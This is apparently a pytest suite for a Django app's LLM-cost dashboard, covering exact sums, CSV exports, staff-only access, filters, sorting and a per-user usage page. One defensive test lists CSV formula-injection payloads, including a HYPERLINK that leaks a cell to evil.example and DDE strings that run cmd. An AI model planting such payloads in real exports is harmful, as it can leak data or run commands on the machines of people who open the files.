"""The cost dashboard, its CSV exports, the Usage page and seed_costlog, over a real database."""

from __future__ import annotations

import re
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import httpx
import pytest
from asgiref.sync import sync_to_async
from django.core.management import call_command
from django.utils import timezone

from conversations.costs import ledger
from conversations.costs import views as costs_views
from conversations.models import CostLog, Message
from tests.accounts import PASSWORD, make_user
from tests.costs import conversation, ended_without_cost, log_cost, read_csv

pytestmark = pytest.mark.django_db

COSTS = ["1.5e-07", "0.0001536", "0.1", "0.2"] + ["1e-07"] * 10_000
EXACT = Decimal("0.30115375")  # 1.5e-07 + 0.0001536 + 0.1 + 0.2 + 10,000 × 1e-07


@pytest.fixture
def staff(db_access):
    return make_user("staff", is_staff=True)


@pytest.fixture
def staff_client(client, staff):
    client.force_login(staff)
    return client


def total_cost(page: str) -> str:
    """The exact total, from the tooltip of the amount shown."""
    return re.search(r'<dd id="total-cost"><span class="money" title="([^"]*)">[^<]*</span></dd>', page).group(1)


def summary(page: str, name: str) -> str:
    return re.search(rf'<dd id="{name}">([^<]*)</dd>', page).group(1)


# --- exact sums -----------------------------------------------------------------------


def test_it_sums_every_digit_on_the_dashboard_and_in_the_csv(staff_client, alice, bob):
    assert sum(Decimal(c) for c in COSTS) == EXACT
    # Written like generations write them (the first few), then in bulk: the database sums.
    for cost in COSTS[:4]:
        log_cost(alice, cost)
    CostLog.objects.bulk_create(
        CostLog(user=bob, service_name="openai", model_name="gpt-4o-mini", cost_total=Decimal(c), total_tokens=3)
        for c in COSTS[4:]
    )

    page = staff_client.get("/dashboard/costs/").content.decode()
    assert total_cost(page) == "$0.30115375"
    assert '<dd id="total-cost"><span class="money" title="$0.30115375">$0.301</span></dd>' in page
    assert summary(page, "generations") == "10,004"

    rows = read_csv(staff_client.get("/dashboard/costs/ledger.csv"))
    assert len(rows) == 10_004
    assert sum(Decimal(r["cost_total"]) for r in rows) == EXACT
    assert {r["cost_total"] for r in rows} == {"0.00000015", "0.0001536", "0.1", "0.2", "0.0000001"}  # never 1E-7

    users = read_csv(staff_client.get("/dashboard/costs/users.csv"))
    assert {r["user"]: r["cost_total"] for r in users} == {"alice": "0.30015375", "bob": "0.001"}
    assert sum(Decimal(r["cost_total"]) for r in users) == EXACT
    models = read_csv(staff_client.get("/dashboard/costs/models.csv"))
    assert {(r["service"], r["model"]): r["generations"] for r in models} == {
        ("google-gemini", "gemini-2.0-flash"): "4",
        ("openai", "gpt-4o-mini"): "10000",
    }
    assert sum(Decimal(r["cost_total"]) for r in models) == EXACT


def test_it_keeps_the_ledger_columns_in_the_csv(staff_client, alice):
    chat = conversation(alice, "Pricing, questions")
    log = log_cost(alice, "0.0001554", chat=chat, tokens=(24, 512), warnings=["Rate limit: 3 left"])
    (row,) = read_csv(staff_client.get("/dashboard/costs/ledger.csv"))
    assert row["user"] == "alice" and row["conversation"] == str(chat.pk)
    assert row["conversation_title"] == "Pricing, questions"  # the comma is quoted, not a new column
    assert row["message"] == str(log.message_id)
    assert (row["service"], row["model"]) == ("google-gemini", "gemini-2.0-flash")
    assert (row["input_tokens"], row["output_tokens"], row["total_tokens"]) == ("24", "512", "536")
    assert (row["cost_total"], row["cost_input"]) == ("0.0001554", "")  # unknown stays empty, not 0
    assert row["warnings"] == "Rate limit: 3 left"
    assert row["time"] == log.created_at.isoformat()
    response = staff_client.get("/dashboard/costs/ledger.csv")
    filename = r'attachment; filename="costs-\d{4}-\d\d-01-to-\d{4}-\d\d-\d\d-ledger\.csv"'
    assert re.match(filename, response["Content-Disposition"])


def test_it_shows_the_share_of_the_total(staff_client, alice, bob):
    log_cost(alice, "0.75")
    log_cost(bob, "0.25", model="gemini-3-pro-thinking-preview")
    page = staff_client.get("/dashboard/costs/").content.decode()
    assert "75.0%" in page and "25.0%" in page
    users = {r["user"]: r["share_percent"] for r in read_csv(staff_client.get("/dashboard/costs/users.csv"))}
    assert users == {"alice": "75", "bob": "25"}


# --- amounts on pages ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "amount, shown",
    [
        ("0.000039012", "$0.0000390"),
        ("0.0000158", "$0.0000158"),
        ("0.0001554", "$0.000155"),
        ("0.0001555", "$0.000156"),  # half up, as people round
        ("0.30115375", "$0.301"),
        ("0.5", "$0.500"),
        ("0.0009996", "$0.00100"),  # rounding up to the next power of ten keeps three digits
        ("0.9996", "$1.00"),
        ("1.234", "$1.23"),
        ("1234.565", "$1,234.57"),
        ("1E-12", "$0.00000000000100"),  # never exponent form
        ("0", "$0.00"),
        ("-0.0000390", "-$0.0000390"),
    ],
)
def test_amounts_show_three_significant_digits_below_a_dollar_and_cents_above(amount, shown):
    from conversations.costs.money import format_money
    from conversations.templatetags.chat import money

    exact = format_money(Decimal(amount))
    assert money(Decimal(amount)) == f'<span class="money" title="{exact}">{shown}</span>'
    assert money(None) == "—"


def test_pages_show_amounts_for_scanning_with_the_exact_amount_in_a_tooltip(staff_client, staff, alice):
    chat = conversation(staff, "Mine")
    log_cost(staff, "0.000039012", chat=chat)
    page = staff_client.get("/dashboard/costs/").content.decode()
    shown = '<span class="money" title="$0.000039012">$0.0000390</span>'
    assert page.count(shown) == 3  # the total, the user and model tables
    assert staff_client.get(top_url(page), headers={"HX-Request": "true"}).content.decode().count(shown) == 1
    page = staff_client.get("/usage/").content.decode()
    assert page.count(shown) == 6  # the total, by model and by conversation, this month and the last 90 days
    page = staff_client.get(chat.get_absolute_url()).content.decode()
    assert page.count(shown) == 2  # the answer and the conversation's total
    (row,) = read_csv(staff_client.get("/dashboard/costs/ledger.csv"))
    assert row["cost_total"] == "0.000039012"  # exports stay exact


# --- who may see it ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "url", ["/dashboard/costs/", "/dashboard/costs/top/", "/dashboard/costs/ledger.csv", "/dashboard/costs/users.csv"]
)
def test_it_is_for_staff_only(client, alice, url):
    response = client.get(url)
    assert response.status_code == 302 and response.url == f"/accounts/login/?next={url}"
    client.force_login(alice)
    assert client.get(url).status_code == 403


def test_the_staff_see_it_in_the_navigation(client, alice, staff):
    client.force_login(alice)
    assert "/dashboard/costs/" not in client.get("/keys/").content.decode()
    assert 'href="/usage/"' in client.get("/").content.decode()
    client.force_login(staff)
    assert 'href="/dashboard/costs/"' in client.get("/keys/").content.decode()
    assert 'href="/dashboard/costs/"' in client.get("/").content.decode()


# --- filters, counts, sorting -------------------------------------------------------------


def test_it_shows_this_month_by_default_and_any_period_asked_for(staff_client, alice):
    now = timezone.now()
    log_cost(alice, "0.5")
    long_ago = now - timedelta(days=45)
    log_cost(alice, "0.25", when=long_ago)

    page = staff_client.get("/dashboard/costs/").content.decode()
    assert total_cost(page) == "$0.5"
    assert ledger.Period.this_month().__str__() in page

    day = long_ago.date().isoformat()
    page = staff_client.get(f"/dashboard/costs/?from={day}&to={day}").content.decode()
    assert total_cost(page) == "$0.25"
    rows = read_csv(staff_client.get(f"/dashboard/costs/ledger.csv?from={day}&to={day}"))
    assert [r["cost_total"] for r in rows] == ["0.25"]

    start = (now - timedelta(days=89)).date().isoformat()
    page = staff_client.get(f"/dashboard/costs/?from={start}&to={now.date().isoformat()}").content.decode()
    assert total_cost(page) == "$0.75"


def test_it_filters_by_user_and_by_model(staff_client, alice, bob):
    log_cost(alice, "0.1")
    log_cost(alice, "0.02", service="openai", model="gpt-4o-mini")
    log_cost(bob, "0.003")

    page = staff_client.get("/dashboard/costs/?user=alice").content.decode()
    assert total_cost(page) == "$0.12"
    assert ">bob<" not in page
    page = staff_client.get("/dashboard/costs/?model=openai/gpt-4o-mini").content.decode()
    assert total_cost(page) == "$0.02"
    assert "gpt-4o-mini" in page  # a model outside the catalogue is still offered, by name
    page = staff_client.get("/dashboard/costs/?user=alice&model=google-gemini/gemini-2.0-flash").content.decode()
    assert total_cost(page) == "$0.1"
    rows = read_csv(staff_client.get("/dashboard/costs/ledger.csv?user=bob"))
    assert [r["user"] for r in rows] == ["bob"]


def test_it_refuses_a_filter_it_cannot_apply(staff_client):
    response = staff_client.get("/dashboard/costs/?from=2026-11-20&to=2026-11-01")
    assert response.status_code == 400 and "“From” must be on or before “To”" in response.content.decode()
    response = staff_client.get("/dashboard/costs/?user=nobody")
    assert response.status_code == 400 and "There is no user named “nobody”" in response.content.decode()
    assert staff_client.get("/dashboard/costs/ledger.csv?from=yesterday").status_code == 400
    assert staff_client.get("/dashboard/costs/secrets.csv").status_code == 404


# --- dates out of range, exports that break, formulas in cells ----------------------------


@pytest.mark.parametrize(
    "query", ["to=9999-12-31", "from=9999-12-01", "from=0001-01-01&to=0001-01-31", "to=2101-01-01"]
)
@pytest.mark.parametrize("table", ["", "ledger.csv", "users.csv", "models.csv"])
def test_it_refuses_dates_out_of_range_with_a_message(staff_client, table, query):
    response = staff_client.get(f"/dashboard/costs/{table}?{query}")
    assert response.status_code == 400
    assert "Pick a day between 1 January 2000 and 31 December 2100." in response.content.decode()


def test_the_widest_period_allowed_still_works(staff_client, alice):
    log_cost(alice, "0.5")
    page = staff_client.get("/dashboard/costs/?from=2000-01-01&to=2100-12-31").content.decode()
    assert total_cost(page) == "$0.5"
    rows = read_csv(staff_client.get("/dashboard/costs/ledger.csv?from=2000-01-01&to=2100-12-31"))
    assert [r["cost_total"] for r in rows] == ["0.5"]


def _rows_then_a_failure(real_rows):
    def rows(scope):
        yield from real_rows(scope)
        raise RuntimeError("the database went away")

    return rows


def test_an_export_that_breaks_midway_ends_the_file_and_says_so(staff_client, alice, monkeypatch, caplog):
    log_cost(alice, "0.5")
    monkeypatch.setattr(costs_views, "_ledger_rows", _rows_then_a_failure(costs_views._ledger_rows))
    response = staff_client.get("/dashboard/costs/ledger.csv")
    assert response.status_code == 200
    lines = b"".join(response.streaming_content).decode().splitlines()  # no exception out of the stream
    assert lines[0].startswith("time,user,") and ",0.5," in lines[1]
    assert lines[2] == costs_views.CUT_SHORT and len(lines) == 3
    assert "the database went away" in caplog.text


@pytest.mark.django_db(transaction=True)
async def test_an_export_that_breaks_midway_under_asgi_ends_the_file_too(async_client, monkeypatch, caplog):
    staff = await sync_to_async(make_user)("staff", is_staff=True)
    await sync_to_async(log_cost)(staff, "0.5")
    await async_client.aforce_login(staff)
    monkeypatch.setattr(costs_views, "_ledger_rows", _rows_then_a_failure(costs_views._ledger_rows))
    response = await async_client.get("/dashboard/costs/ledger.csv")
    assert response.status_code == 200
    text = "".join([part.decode() async for part in response.streaming_content])
    assert text.splitlines()[-1] == costs_views.CUT_SHORT
    assert "the database went away" in caplog.text


def test_daphne_answers_a_date_out_of_range_and_keeps_serving(demo_app):
    """The URL that used to raise inside a started response, under Daphne itself."""
    with httpx.Client(base_url=demo_app.url) as browser:
        browser.get("/accounts/signup/")
        signed_up = browser.post(
            "/accounts/signup/",
            data={"username": "staff", "password1": PASSWORD, "password2": PASSWORD},
            headers={"X-CSRFToken": browser.cookies["csrftoken"]},
        )
        assert signed_up.status_code == 302  # the first account: staff
        response = browser.get("/dashboard/costs/ledger.csv?to=9999-12-31")
        assert response.status_code == 400 and "Pick a day between" in response.text
        export = browser.get("/dashboard/costs/ledger.csv", headers={"Connection": "close"})
        assert export.status_code == 200 and export.text.startswith("time,user,")
    assert "Exception inside application" not in Path(demo_app.log.name).read_text()


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_the_csv_defuses_formulas_in_text_cells(staff_client, payload):
    user = make_user("-1+1")  # a valid user name, and a formula
    chat = conversation(user, payload)
    log_cost(user, "0.5", chat=chat, service="=svc", model="+model", tokens=(24, 512), warnings=[payload, "ok"])

    (row,) = read_csv(staff_client.get("/dashboard/costs/ledger.csv"))
    assert row["conversation_title"] == "'" + payload
    assert row["warnings"] == "'" + payload + " | ok"
    assert (row["user"], row["service"], row["model"]) == ("'-1+1", "'=svc", "'+model")
    assert (row["cost_total"], row["input_tokens"], row["total_tokens"]) == ("0.5", "24", "536")  # numbers as they were
    assert row["conversation"] == str(chat.pk)

    (row,) = read_csv(staff_client.get("/dashboard/costs/users.csv"))
    assert (row["user"], row["cost_total"], row["generations"]) == ("'-1+1", "0.5", "1")
    (row,) = read_csv(staff_client.get("/dashboard/costs/models.csv"))
    assert (row["service"], row["model"], row["cost_total"]) == ("'=svc", "'+model", "0.5")


def test_it_counts_answers_with_no_cost_reported_and_with_warnings(staff_client, alice, bob):
    chat = conversation(alice)
    log_cost(alice, "0.01", chat=chat, warnings=["Rate limit: 1 left"])
    log_cost(alice, "0.01", chat=chat)
    for status in ("stopped", "interrupted", "failed"):
        ended_without_cost(chat, status)
    ended_without_cost(chat, "failed", when=timezone.now() - timedelta(days=45))  # another period
    chat.messages.create(role=Message.Role.USER, content="hi")  # questions have no cost
    ended_without_cost(conversation(bob), "stopped", model="gemini-3-pro-thinking-preview")

    page = staff_client.get("/dashboard/costs/").content.decode()
    assert summary(page, "no-cost") == "4" and summary(page, "warned") == "1"
    assert total_cost(page) == "$0.02"  # an unknown cost is counted apart, never as zero
    page = staff_client.get("/dashboard/costs/?user=alice").content.decode()
    assert summary(page, "no-cost") == "3"
    page = staff_client.get("/dashboard/costs/?model=google-gemini/gemini-3-pro-thinking-preview").content.decode()
    assert summary(page, "no-cost") == "1"


def test_the_ledger_csv_lists_the_answers_with_no_cost_reported_that_the_page_counts(staff_client, alice, bob):
    chat = conversation(alice, "Costly")
    priced = log_cost(alice, "0.01", chat=chat)
    stopped = ended_without_cost(chat, "stopped")
    stopped.warnings = ["Rate limit: 1 left"]
    stopped.save()
    ended_without_cost(chat, "failed", when=timezone.now() - timedelta(days=45))  # another period
    log_cost(bob, "0.02")  # its conversation deleted: no answer left to say how it ended
    cut = ended_without_cost(conversation(bob, "Bob's"), "interrupted", model="gemini-3-pro-thinking-preview")

    page = staff_client.get("/dashboard/costs/").content.decode()
    rows = read_csv(staff_client.get("/dashboard/costs/ledger.csv"))
    assert len(rows) == int(summary(page, "generations")) + int(summary(page, "no-cost")) == 4
    assert [r["status"] for r in rows] == ["complete", "stopped", "", "interrupted"]  # in time order
    assert rows[0]["message"] == str(priced.message_id) and rows[0]["cost_total"] == "0.01"
    row = rows[1]
    assert (row["time"], row["user"], row["conversation"], row["conversation_title"], row["message"]) == (
        stopped.created_at.isoformat(),
        "alice",
        str(chat.pk),
        "Costly",
        str(stopped.pk),
    )
    assert (row["service"], row["model"], row["warnings"]) == (
        "google-gemini",
        "gemini-2.0-flash",
        "Rate limit: 1 left",
    )
    assert {row[name] for name in ("input_tokens", "output_tokens", "total_tokens", "cost_total", "cost_input")} == {""}
    assert rows[3]["message"] == str(cut.pk)

    # The filters apply to them as to the page's count.
    for query in ("user=alice", "model=google-gemini/gemini-3-pro-thinking-preview"):
        page = staff_client.get(f"/dashboard/costs/?{query}").content.decode()
        rows = read_csv(staff_client.get(f"/dashboard/costs/ledger.csv?{query}"))
        assert len(rows) == int(summary(page, "generations")) + int(summary(page, "no-cost")), query
    assert [r["status"] for r in rows] == ["interrupted"]


def _row_order(page: str, table: str) -> list[str]:
    body = page.split(f'id="{table}"', 1)[1].split("</table>", 1)[0]
    return re.findall(r'<th scope="row">(?:<a [^>]*>)?([^<]+)', body)


def test_it_sorts_the_tables(staff_client, alice, bob):
    carol = make_user("carol")
    log_cost(alice, "0.2", tokens=(1, 1))
    log_cost(bob, "0.3", tokens=(50, 50))
    log_cost(carol, "0.1", tokens=(5, 5))
    log_cost(carol, "0.01", tokens=(5, 5), service="openai", model="gpt-4o-mini")

    page = staff_client.get("/dashboard/costs/").content.decode()
    assert _row_order(page, "by-user") == ["bob", "alice", "carol"]  # biggest cost first
    assert 'aria-sort="descending"><a href="?users_sort=cost"' in page  # the link reverses it
    page = staff_client.get("/dashboard/costs/?users_sort=name").content.decode()
    assert _row_order(page, "by-user") == ["alice", "bob", "carol"]
    page = staff_client.get("/dashboard/costs/?users_sort=-tokens").content.decode()
    assert _row_order(page, "by-user") == ["bob", "carol", "alice"]
    page = staff_client.get("/dashboard/costs/?users_sort=-generations&models_sort=cost").content.decode()
    assert _row_order(page, "by-user")[0] == "carol"
    assert _row_order(page, "by-model") == ["gpt-4o-mini", "Gemini 2.0 Flash"]
    # A nonsense sort falls back to the default instead of failing.
    assert _row_order(staff_client.get("/dashboard/costs/?users_sort=password").content.decode(), "by-user")[0] == "bob"


def test_htmx_sorting_gets_only_the_tables(staff_client, alice):
    log_cost(alice, "0.2")
    response = staff_client.get("/dashboard/costs/?users_sort=name", headers={"HX-Request": "true"})
    html = response.content.decode()
    assert html.strip().startswith('<div id="breakdown"') and "<html" not in html
    assert "alice" in html and "Cost per day" not in html
    assert "HX-Request" in response["Vary"]
    # The back button after such a swap may ask htmx to restore the whole page.
    restore = staff_client.get(
        "/dashboard/costs/?users_sort=name", headers={"HX-Request": "true", "HX-History-Restore-Request": "true"}
    )
    assert "<html" in restore.content.decode()


def top_url(page: str) -> str:
    """Where the dashboard loads its top conversations from (the placeholder's hx-get)."""
    url = re.search(r'id="top-conversations-to-load"[^>]* hx-get="([^"]+)" hx-trigger="load"', page).group(1)
    assert re.search(rf'<a href="{re.escape(url)}">', page)  # and the link without script
    return url.replace("&amp;", "&")


def top_table(client, page: str) -> str:
    response = client.get(top_url(page), headers={"HX-Request": "true"})
    assert response.status_code == 200 and "HX-Request" in response["Vary"]
    return response.content.decode()


def test_it_lists_the_top_conversations_with_links_to_the_admin(staff_client, admin_client, alice, bob):
    cheap, dear = conversation(alice, "Cheap chat"), conversation(bob, "Dear chat")
    log_cost(alice, "0.001", chat=cheap)
    log_cost(bob, "0.5", chat=dear)
    log_cost(bob, "0.25", chat=dear)
    page = staff_client.get("/dashboard/costs/").content.decode()
    assert 'id="top-conversations"' not in page  # loaded after the page
    table = top_table(staff_client, page)
    assert table.strip().startswith('<div class="table-scroll">') and "<html" not in table
    assert _row_order(table, "top-conversations") == ["Dear chat", "Cheap chat"]
    assert f'<a href="/admin/conversations/conversation/{dear.pk}/change/">Dear chat</a>' in table
    assert "<td>bob</td>" in table
    assert "Dear chat" in admin_client.get(f"/admin/conversations/conversation/{dear.pk}/change/").content.decode()
    # Without script, the placeholder's link opens the same table on a page of its own.
    alone = staff_client.get(top_url(page)).content.decode()
    assert "<html" in alone and _row_order(alone, "top-conversations") == ["Dear chat", "Cheap chat"]


def test_the_top_conversations_load_for_the_page_s_period_and_filter(staff_client, alice, bob):
    long_ago = timezone.now() - timedelta(days=45)
    old, new, bobs = conversation(alice, "Old chat"), conversation(alice, "New chat"), conversation(bob, "Bob chat")
    log_cost(alice, "0.3", chat=old, when=long_ago)
    log_cost(alice, "0.1", chat=new)
    log_cost(bob, "0.2", chat=bobs)
    log_cost(bob, "0.05", chat=bobs, service="openai", model="gpt-4o-mini")

    page = staff_client.get("/dashboard/costs/?users_sort=name").content.decode()
    url = top_url(page)
    this_month = ledger.Period.this_month()
    # The page's period goes with it, also when it is the default; its sorts do not.
    assert f"from={this_month.start}" in url and f"to={this_month.end}" in url and "sort" not in url
    assert _row_order(top_table(staff_client, page), "top-conversations") == ["Bob chat", "New chat"]

    day = long_ago.date().isoformat()
    page = staff_client.get(f"/dashboard/costs/?from={day}&to={day}").content.decode()
    assert _row_order(top_table(staff_client, page), "top-conversations") == ["Old chat"]
    page = staff_client.get("/dashboard/costs/?user=alice").content.decode()
    assert _row_order(top_table(staff_client, page), "top-conversations") == ["New chat"]
    page = staff_client.get("/dashboard/costs/?model=openai/gpt-4o-mini").content.decode()
    table = top_table(staff_client, page)
    assert _row_order(table, "top-conversations") == ["Bob chat"] and "$0.05" in table
    # A sort swap (htmx) leaves the loaded table alone: it is not in the swapped part.
    swap = staff_client.get("/dashboard/costs/?users_sort=-cost", headers={"HX-Request": "true"}).content.decode()
    assert "top-conversations" not in swap
    assert staff_client.get("/dashboard/costs/top/?from=2026-13-01").status_code == 400


def test_the_top_conversations_count_only_the_period_over_most_of_the_ledger_or_little(alice, bob):
    # On SQLite, a period over most of the ledger's time span reads it in conversation
    # order, the period's condition kept from the time index; a short one seeks by time.
    now, today = timezone.now(), timezone.localdate()
    chat, other = conversation(alice, "Chat"), conversation(bob, "Other")
    for days_ago, chat_, cost in [(60, chat, "0.5"), (30, chat, "0.25"), (30, other, "0.3"), (1, other, "0.125")]:
        log_cost(chat_.user, cost, chat=chat_, when=now - timedelta(days=days_ago))
    log_cost(alice, "0.0625", chat=chat, when=now)

    def top(first: int, last: int) -> list[tuple[str, Decimal]]:
        period = ledger.Period(today - timedelta(days=first), today - timedelta(days=last))
        return [(g.label, g.totals.cost) for g in ledger.top_conversations(ledger.Scope(period))]

    assert top(59, 1) == [("Other", Decimal("0.425")), ("Chat", Decimal("0.25"))]
    assert top(30, 30) == [("Other", Decimal("0.3")), ("Chat", Decimal("0.25"))]
    assert top(0, 0) == [("Chat", Decimal("0.0625"))]
    assert top(60, 0) == [("Chat", Decimal("0.8125")), ("Other", Decimal("0.425"))]


def test_it_draws_the_cost_per_day_stacked_by_model(staff_client, alice):
    now = timezone.now()
    log_cost(alice, "0.2")
    log_cost(alice, "0.1", service="openai", model="gpt-4o-mini")
    page = staff_client.get("/dashboard/costs/").content.decode()
    svg = re.search(r"<svg role=\"img\" aria-labelledby=\"chart-title\".*?</svg>", page, re.S).group(0)
    assert '<title id="chart-title">Cost per day, stacked by model</title>' in svg
    bars = re.findall(r"<rect [^>]*><title>([^<]*)</title>", svg)
    day = f"{now.day} {now:%B}"
    assert sorted(bars) == sorted([f"{day} · Gemini 2.0 Flash: $0.2", f"{day} · gpt-4o-mini: $0.1"])
    assert ">$0.3<" in svg  # the axis tops out at the day's total, a round number
    assert "Gemini 2.0 Flash</li>" in page and "gpt-4o-mini</li>" in page  # the legend


def test_the_chart_scale_is_round():
    from conversations.costs.chart import nice_ceiling

    assert nice_ceiling(Decimal("0.29")) == Decimal("0.3")
    assert nice_ceiling(Decimal("0.0000031")) == Decimal("0.000004")
    assert nice_ceiling(Decimal("7.5")) == Decimal("8")
    assert nice_ceiling(Decimal("9")) == Decimal("10")
    assert nice_ceiling(Decimal("0")) == Decimal("1")


# --- each user's own usage ----------------------------------------------------------------


def test_the_usage_page_shows_only_the_users_own_numbers(client, alice, bob):
    mine, theirs = conversation(alice, "My chat"), conversation(bob, "Bob's secret plans")
    log_cost(alice, "0.0123", chat=mine)
    log_cost(alice, "0.001", chat=mine, when=timezone.now() - timedelta(days=60), service="openai", model="gpt-4o-mini")
    log_cost(bob, "0.777", chat=theirs, service="anthropic", model="claude-haiku-4-5")
    ended_without_cost(mine, "failed")

    client.force_login(alice)
    page = client.get("/usage/").content.decode()
    this_month, last_90_days = page.split("Last 90 days", 1)
    assert "$0.0123" in this_month and "gpt-4o-mini" not in this_month
    assert "$0.0133" in last_90_days and "gpt-4o-mini" in last_90_days
    assert f'<a href="/c/{mine.pk}/">My chat</a>' in page
    assert "0.777" not in page and "Bob" not in page and "claude" not in page
    assert ">No cost reported</dt><dd>1<" in page


def test_the_usage_page_needs_a_login(client):
    response = client.get("/usage/")
    assert response.status_code == 302 and response.url.startswith("/accounts/login/")


# --- the conversation's total ---------------------------------------------------------------


def test_the_conversation_header_shows_its_total(client, alice, db_models):
    chat = conversation(alice)
    log_cost(alice, "0.0001554", chat=chat, tokens=(24, 512))
    log_cost(alice, "1e-07", chat=chat, tokens=(1, 1))
    ended_without_cost(chat, "stopped")
    client.force_login(alice)
    page = client.get(chat.get_absolute_url()).content.decode()
    assert re.search(
        r'<p id="conversation-total" class="usage">Conversation total: 538 tokens · '
        r'<span class="money" title="\$0.0001555">\$0.000156</span> \(and 1 answer with no cost reported\)</p>',
        page,
    )
    page = client.get("/").content.decode()
    assert '<p id="conversation-total" class="usage"></p>' in page  # a new chat: nothing yet


# --- seed_costlog ------------------------------------------------------------------------------


def test_seed_costlog_fills_the_ledger(django_user_model):
    before = timezone.now()
    call_command("seed_costlog", 2500, random_seed=7, batch_size=1000)
    logs = CostLog.objects.all()
    assert logs.count() == 2500
    assert logs.values("service_name", "model_name").distinct().count() == 5
    assert 1 < logs.values("user").distinct().count() <= 100
    assert django_user_model.objects.filter(username__startswith="seed-user-").count() == 100
    oldest = logs.order_by("created_at").first().created_at
    newest = logs.order_by("created_at").last().created_at
    assert before - timedelta(days=90) <= oldest and newest <= timezone.now()
    assert not logs.filter(cost_total__isnull=True).exists()
    assert not logs.filter(cost_total__lte=0).exists() and not logs.filter(cost_total__gt=Decimal("0.05")).exists()
    assert logs.filter(conversation__isnull=True).count() == 0
    assert Message.no_cost_reported().count() == 25
    # Running it again adds rows and reuses the users.
    call_command("seed_costlog", 10)
    assert CostLog.objects.count() == 2510
    assert django_user_model.objects.filter(username__startswith="seed-user-").count() == 100
